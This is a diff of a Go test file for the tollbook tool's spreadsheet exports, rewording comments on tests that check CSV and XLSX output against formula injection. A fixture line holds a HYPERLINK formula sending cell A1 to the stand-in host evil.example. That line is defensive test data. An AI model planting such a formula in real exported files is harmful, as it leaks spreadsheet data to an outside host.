@@ -21,7 +21,7 @@ import (
 	"github.com/tollbook/tollbook/pipeline/read/question"
 )
 
-// hostileWorkspace is a month whose ids and names a spreadsheet would interpret as numbers, dates and formulas.
+// hostileWorkspace returns a workspace with ids and names that a spreadsheet would take for numbers, dates or formulas.
 func hostileWorkspace(t *testing.T) string {
 	t.Helper()
 	const link = `"=HYPERLINK(""http://evil.example/?""&A1,""open"")"`
@@ -74,8 +74,8 @@ func csvLines() map[string][][]string {
 	}
 }
 
-// TestExcelFlags checks that every command of the tree whose --format has csv has --excel too, and is tested below. The
-// CSV of generate is a feed, which tollbook reads.
+// TestExcelFlags checks that every command whose --format has csv also has --excel and is tested below, except
+// generate: its CSV is a feed, which tollbook reads.
 func TestExcelFlags(t *testing.T) {
 	t.Parallel()
 	known := csvLines()
@@ -140,8 +140,8 @@ func seen(t *testing.T, where, cell string) (text string, number bool) {
 	return cell, false
 }
 
-// TestExcelCSV checks that with --excel every cell of every command's CSV has the value of the plain form: texts are
-// texts, numbers numbers. Invariant: EXPORT-5.
+// TestExcelCSV checks that with --excel every cell of every command's CSV has the value of the plain form: texts remain
+// texts, numbers remain numbers. Invariant: EXPORT-5.
 func TestExcelCSV(t *testing.T) {
 	t.Parallel()
 	dir := hostileWorkspace(t)
@@ -163,7 +163,7 @@ func TestExcelCSV(t *testing.T) {
 	}
 }
 
-// parts returns the CSV files of an output: of a tar.gz all.
+// parts returns the CSV files of an output: all files of a tar.gz, otherwise the output itself.
 func parts(t *testing.T, out string) []string {
 	t.Helper()
 	if !strings.HasPrefix(out, "\x1f\x8b") {
@@ -188,7 +188,7 @@ func parts(t *testing.T, out string) []string {
 	}
 }
 
-// sameTable compares what a spreadsheet shows of the Excel form with the plain form, cell by cell.
+// sameTable compares, cell by cell, what a spreadsheet shows of the Excel form with the plain form.
 func sameTable(t *testing.T, where, plain, excel string) {
 	t.Helper()
 	want, err := csv.NewReader(strings.NewReader(plain)).ReadAll()
@@ -241,7 +241,7 @@ func TestExcelCells(t *testing.T) {
 	}
 }
 
-// TestXLSXCells checks that in every XLSX ids are text cells, and that only totals are formulas.
+// TestXLSXCells checks that ids are text cells in every XLSX file, and that only totals are formulas.
 func TestXLSXCells(t *testing.T) {
 	t.Parallel()
 	dir := hostileWorkspace(t)
